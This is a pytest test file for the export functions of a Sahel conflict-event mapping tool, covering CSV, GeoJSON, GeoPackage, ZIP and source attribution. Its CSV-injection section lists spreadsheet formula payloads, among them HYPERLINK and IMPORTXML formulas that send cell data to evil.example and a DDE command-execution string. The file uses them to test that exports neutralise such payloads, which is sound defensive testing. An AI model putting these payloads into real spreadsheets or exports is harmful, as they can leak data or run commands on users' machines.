"""Extracts: CSV that round-trips and is safe in spreadsheets, valid GeoJSON, a ZIP that cites its sources."""

from __future__ import annotations

import datetime as dt
import io
import json
import zipfile

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest

from sahelmap import export, filters, schema
from sahelmap.export import EXPORT_COLUMNS
from tests.factories import ALL, GAO, UNKNOWN_DEATHS, VAC, build_events, event_row, shared_events

GENERATED = dt.datetime(2026, 1, 2, 3, 4, tzinfo=dt.UTC)


@pytest.fixture
def table() -> pd.DataFrame:
    return shared_events().copy()


def read_csv(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8-sig")


def by_id(frame: pd.DataFrame) -> pd.DataFrame:
    return frame.set_index("event_id")


# --- CSV -------------------------------------------------------------------------------------------


def test_csv_round_trip(table) -> None:
    data = export.to_csv_bytes(table)
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets read it as UTF-8
    back = read_csv(data)
    assert list(back.columns) == EXPORT_COLUMNS
    assert set(EXPORT_COLUMNS) >= set(schema.TABLE_COLUMNS) - {"timestamp"}
    assert "actor_group_mask" not in back.columns  # internal, never exported
    assert len(back) == len(table) and set(back["event_id"]) == ALL
    rows = by_id(back)
    s01 = rows.loc["S01"]
    assert s01["event_date"] == "2021-12-31" and s01["end_date"] == "" and s01["source_date"] == "2022-04-05"
    assert rows.loc["S10", "end_date"] == "2024-07-28"
    assert s01["actor_groups"] == "; ".join(schema.ACTOR_GROUPS[g] for g in ("wagner", "mali_state", "jnim"))
    assert s01["fatalities"] == "12" and s01["civilian_targeting"] == "false"
    assert rows.loc["S02", "civilian_targeting"] == "true"
    assert (rows.loc[sorted(UNKNOWN_DEATHS), "fatalities"] == "").all()  # unknown stays empty, not 0
    assert rows.loc["S04", "fatalities"] == "0"
    assert s01["longitude"] == "-0.04472" and s01["latitude"] == "16.27167"
    assert rows.loc["S06", "location"] == "Ségou" and rows.loc["S06", "focus_place"] == "Ségou"
    assert rows.loc["S03", "focus_place"] == ""
    assert rows.loc["S04", "time_precision"] == "3" and rows.loc["S09", "geo_precision"] == "3"
    assert (back["linked_events"] == "").all()


def test_csv_text_round_trips_with_quotes_commas_and_newlines(table) -> None:
    tricky = 'He said "stop", then left;\nsecond line, with Ségou and 100%'
    table.loc[table["event_id"] == "S07", "notes"] = tricky
    back = by_id(read_csv(export.to_csv_bytes(table)))
    assert back.loc["S07", "notes"] == tricky
    assert len(back) == len(table)


def test_csv_rows_end_with_crlf(table) -> None:
    text = export.to_csv_bytes(table.iloc[:2]).decode("utf-8-sig")
    assert text.count("\r\n") == 3 and text.endswith("\r\n")


def test_empty_selection_gives_a_header_only_csv(table) -> None:
    back = read_csv(export.to_csv_bytes(table.iloc[0:0]))
    assert list(back.columns) == EXPORT_COLUMNS and back.empty


# --- CSV injection ---------------------------------------------------------------------------------

INJECTIONS = {
    "notes": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "actor1": "+cmd|' /C calc'!A0",
    "location": "-2+3",
    "source": "@SUM(1+1)",
    "source_title": "\t=1+1",
    "admin2": "\r=1+1",
    "source_url": '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
}


def test_formula_cells_are_neutralised(table) -> None:
    target = table["event_id"] == "S01"
    for column, value in INJECTIONS.items():
        table.loc[target, column] = value
    back = by_id(read_csv(export.to_csv_bytes(table)))
    for column, value in INJECTIONS.items():
        assert back.loc["S01", column] == "'" + value, column
    # plain text, numbers that look negative and dates are left as they are
    s07 = back.loc["S07"]
    assert s07["location"] == "Bamako" and s07["notes"] == "Residents marched against power cuts."
    assert s07["longitude"] == "-8.0" and back.loc["S01", "longitude"] == "-0.04472"
    assert back.loc["S01", "event_date"] == "2021-12-31" and back.loc["S01", "fatalities"] == "12"
    assert not any(cell.startswith("'") for cell in back.drop(index="S01").to_numpy().ravel())


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("Gao - Ansongo", "Gao - Ansongo"),
        ("'already", "'already"),
        ("", ""),
        (None, ""),
    ],
)
def test_neutralise(value: str | None, expected: str) -> None:
    assert export.neutralise(pd.Series([value], dtype="str")).tolist() == [expected]


def test_injection_through_validation_reaches_the_csv_neutralised() -> None:
    row = event_row("=1+2", "curated", "2023-01-02", ("Gao", "Gao", "Gao", ",".join(GAO)), event_type=VAC,
               sub_event_type="Attack", actor1="@Wagner", actor2="-Civilians", notes="+notes")  # fmt: skip
    back = read_csv(export.to_csv_bytes(build_events([row]))).iloc[0]
    assert (back["event_id"], back["actor1"], back["actor2"], back["notes"]) == (
        "'=1+2",
        "'@Wagner",
        "'-Civilians",
        "'+notes",
    )


# --- GeoJSON ---------------------------------------------------------------------------------------


def _no_nan(constant: str):
    raise AssertionError(f"{constant} is not valid JSON (RFC 8259)")


def load_geojson(data: bytes) -> dict:
    return json.loads(data.decode("utf-8"), parse_constant=_no_nan)


def test_geojson_is_a_valid_feature_collection(table) -> None:
    doc = load_geojson(export.to_geojson_bytes(table))
    assert doc["type"] == "FeatureCollection" and len(doc["features"]) == len(table)
    features = {f["properties"]["event_id"]: f for f in doc["features"]}
    assert set(features) == ALL
    for feature in doc["features"]:
        assert feature["type"] == "Feature" and feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert (lon, lat) == (feature["properties"]["longitude"], feature["properties"]["latitude"])
        assert set(feature["properties"]) == set(schema.TABLE_COLUMNS) - {"timestamp"}
    assert features["S07"]["geometry"]["coordinates"] == [-8.0, 12.65]  # [lon, lat], Bamako


def test_geojson_properties_keep_types_and_unknowns(table) -> None:
    doc = load_geojson(export.to_geojson_bytes(table))
    props = {f["properties"]["event_id"]: f["properties"] for f in doc["features"]}
    assert props["S06"]["fatalities"] is None  # unknown, not 0
    assert props["S04"]["fatalities"] == 0 and props["S13"]["fatalities"] == 157
    assert isinstance(props["S13"]["fatalities"], int)
    assert props["S01"]["event_date"] == "2021-12-31" and props["S01"]["end_date"] is None
    assert props["S10"]["end_date"] == "2024-07-28"
    assert props["S02"]["civilian_targeting"] is True and props["S01"]["civilian_targeting"] is False
    assert props["S03"]["focus_place"] is None and props["S06"]["focus_place"] == "Ségou"
    assert props["S04"]["time_precision"] == 3
    assert props["S02"]["actor_groups"] == "Wagner / Africa Corps; Civilians"
    assert "Ségou".encode() in export.to_geojson_bytes(table)  # UTF-8, not \\u escapes


def test_geojson_of_nothing_is_an_empty_collection(table) -> None:
    assert load_geojson(export.to_geojson_bytes(table.iloc[0:0])) == {
        "type": "FeatureCollection",
        "features": [],
    }


# --- ZIP and README --------------------------------------------------------------------------------


def test_zip_holds_csv_geojson_and_readme(table) -> None:
    spec = filters.FilterSpec(type=(VAC,), place=("Gao", "Kidal"))
    selected = filters.apply(table, spec)
    description = filters.describe(spec, len(selected), 167)
    attributions = export.attribution_for(["curated", "ucdp"])
    query = "type=violence-against-civilians&place=gao,kidal"
    stem = filters.file_stem(spec)
    readme = export.readme_text(description, attributions, query, GENERATED)
    data = export.to_zip_bytes(selected, stem, readme)

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        assert sorted(archive.namelist()) == sorted([f"{stem}.csv", f"{stem}.geojson", "README.txt"])
        csv = archive.read(f"{stem}.csv")
        geojson = archive.read(f"{stem}.geojson")
        text = archive.read("README.txt").decode("utf-8")
    assert csv == export.to_csv_bytes(selected)
    assert set(read_csv(csv)["event_id"]) == {"S02", "S11", "S12"}
    assert len(load_geojson(geojson)["features"]) == 3
    assert f"Filter: {description}" in text
    assert f"Query: ?{query}" in text and "Generated: 2026-01-02 03:04 UTC" in text
    for line in attributions:
        assert f"- {line}" in text
    assert "Sundberg" in text and "sahelmap curated events" in text
    assert "unknown is not zero" in text and "apostrophe" in text


def test_readme_without_a_query_says_every_event() -> None:
    text = export.readme_text("All events: 3 events, 0 reported deaths", [], "", GENERATED)
    assert "Query: (none: every event)" in text and "Query: ?" not in text


@pytest.mark.parametrize(
    ("fmt", "check"),
    [("csv", b"\xef\xbb\xbf"), ("geojson", b"{"), ("gpkg", b"SQLite format 3\x00"), ("zip", b"PK")],
)
def test_extract_bytes_formats(table, fmt: str, check: bytes) -> None:
    data = export.extract_bytes(
        table, fmt, stem="x", description="d", attributions=[], query="", generated=GENERATED
    )
    assert data.startswith(check)


def test_extract_bytes_rejects_an_unknown_format(table) -> None:
    with pytest.raises(ValueError, match="xlsx"):
        export.extract_bytes(
            table, "xlsx", stem="x", description="d", attributions=[], query="", generated=GENERATED
        )


# --- GeoPackage -------------------------------------------------------------------------------------


def read_gpkg(data: bytes, tmp_path, layer: str = "events") -> pd.DataFrame:
    path = tmp_path / "extract.gpkg"
    path.write_bytes(data)
    return gpd.read_file(path, layer=layer)


def test_geopackage_round_trip(table, tmp_path) -> None:
    table.loc[table["event_id"] == "S03", "notes"] = '=HYPERLINK("http://x")'
    readme = export.readme_text("All events", export.attribution_for(["acled", "ucdp"]), "", GENERATED)
    back = read_gpkg(export.to_gpkg_bytes(table, readme), tmp_path)
    assert back.crs == "EPSG:4326" and len(back) == len(table)
    assert set(back.columns) == set(EXPORT_COLUMNS) | {"geometry"}
    back, original = by_id(back), by_id(table)
    assert set(back.index) == ALL
    assert (back.geometry.x == original["longitude"][back.index]).all()
    assert (back.geometry.y == original["latitude"][back.index]).all()
    assert back.at["S13", "fatalities"] == 157 and pd.isna(back.at["S06", "fatalities"])  # unknown, not 0
    assert back.at["S01", "event_date"] == "2021-12-31" and bool(back.at["S02", "civilian_targeting"])
    assert back.at["S03", "notes"] == '\'=HYPERLINK("http://x")'  # made safe, as in the CSV
    assert back.at["S07", "admin1_join"] == "Bamako"
    lines = read_gpkg(export.to_gpkg_bytes(table, readme), tmp_path, layer="readme")["line"].tolist()
    assert any("Raleigh" in line for line in lines) and any("Sundberg" in line for line in lines)
    assert (
        pyogrio.read_info(tmp_path / "extract.gpkg", layer="events")["layer_metadata"]["DESCRIPTION"]
        == readme
    )


# --- attribution -----------------------------------------------------------------------------------


def test_attribution_cites_acled_and_ucdp() -> None:
    acled, ucdp = export.attribution_for(["acled", "ucdp"])
    assert "ACLED" in acled and "acleddata.com" in acled and "Raleigh" in acled and "2010" in acled
    assert "UCDP" in ucdp and "Sundberg" in ucdp and "Melander" in ucdp and "CC BY 4.0" in ucdp


def test_imported_datasets_cite_their_source_format() -> None:
    lines = export.attribution_for(
        ["mali_acled_2024", "curated"], {"mali_acled_2024": "acled", "curated": "curated"}
    )
    assert lines[0].startswith("mali_acled_2024 (imported acled data): ACLED:")
    assert lines[1].startswith("sahelmap curated events")


def test_user_data_in_an_unknown_format_asks_for_its_publisher() -> None:
    [line] = export.attribution_for(["survey"], {"survey": "spreadsheet"})
    assert line == "survey: data supplied by the user; cite its original publisher."


def test_attribution_lines_are_not_repeated() -> None:
    assert len(export.attribution_for(["acled", "acled", "ucdp"])) == 2
    assert export.attribution_for([]) == []


def test_dataset_without_a_known_format_still_gets_a_line() -> None:
    lines = export.attribution_for(["upload"])
    assert lines == ["upload: data supplied by the user; cite its original publisher."]
